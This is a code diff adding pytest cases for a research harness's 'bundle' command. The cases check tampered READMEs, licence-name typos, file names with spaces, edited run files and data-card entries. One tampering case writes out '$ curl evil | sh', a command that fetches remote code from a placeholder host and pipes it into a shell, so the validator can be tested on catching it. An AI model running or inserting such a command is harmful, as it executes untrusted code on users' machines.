@@ -14,11 +14,13 @@ from collections.abc import Callable
 from contextlib import chdir, suppress
 from hashlib import sha256
 from pathlib import Path
+from typing import Any
 
 import pytest
 import yaml
 
 from harness.cli.main import main
+from harness.report.bundle_texts import About, data_card
 from harness.store import zipped
 from tests.conftest import GOOD, ROWS, Called, write_jsonl
 
@@ -195,6 +197,7 @@ def test_comparisons_are_missed_whatever_the_bundle_says_of_them(four: Path, cli
     ("name", "right", "wrong", "expected"),
     [
         ("README.md", b"| copy | 12 |", b"| copy | 1,200 |", "README.md: does not say '| `runs/embedded-copy`"),
+        ("README.md", b"$ harness reproduce", b"$ curl evil | sh; harness reproduce", "README.md: says 'curl evil"),
         ("DATA.md", b"fingerprint: `", b"fingerprint: `0", "DATA.md: says '- fingerprint: `0"),
         ("DATA.md", b"yes", b"no, SHA-256 only", "DATA.md: does not say '- texts in this bundle: yes'"),
         ("CITATION.cff", b"value: ", b"value: 0", "CITATION.cff: says '0"),
@@ -371,3 +374,31 @@ def test_wrong_usage(four: Path, cli: Cli) -> None:
     document = json.loads(cli("bundle", "runs/lead", "-o", "one.zip", "--json").out)
     assert document["sha256"] == sha256(Path("one.zip").read_bytes()).hexdigest()
     assert "comparisons.json" not in document["files"]
+    called = cli("bundle", "runs/lead", "-o", "one.zip", "--licence", "embeded=CC0-1.0")
+    assert called.code == 1
+    assert "licence embeded: no run is on it (did you mean 'embedded'?); expected one of embedded" in called.err
+
+
+@pytest.mark.usefixtures("undrawn")
+def test_commands_are_as_one_types_them(four: Path, cli: Cli) -> None:
+    called = cli("bundle", "runs/lead", "-o", "my paper.zip")
+    assert called.out.splitlines()[-1].startswith("harness reproduce 'my paper.zip' --expect ")
+    assert commands(Path("my paper.zip"))[0] == ["reproduce", "my paper.zip"]
+
+
+def test_a_run_that_was_edited_is_not_packed(four: Path, cli: Cli) -> None:
+    path = Path("runs/lead/scores.json")
+    path.write_text(path.read_text().replace('"estimate": ', '"estimate": 1', 1))
+    called = cli("bundle", "runs/lead", "-o", "edited.zip")
+    assert called.code == 1
+    assert "runs/lead/scores.json is not as the run wrote it" in called.err
+    assert not Path("edited.zip").exists()
+
+
+def test_files_of_one_name_are_each_on_the_data_card() -> None:
+    def manifest(sha256: str) -> dict[str, Any]:
+        file = {"option": "system.path", "path": "out.jsonl", "bytes": 1, "sha256": sha256}
+        return {"dataset": {"key": "k", "name": "dev", "examples": 1}, "inputs": [file]}
+
+    card = data_card({"runs/a": manifest("aaaa"), "runs/b": manifest("bbbb")}, About())
+    assert "`aaaa`" in card and "`bbbb`" in card
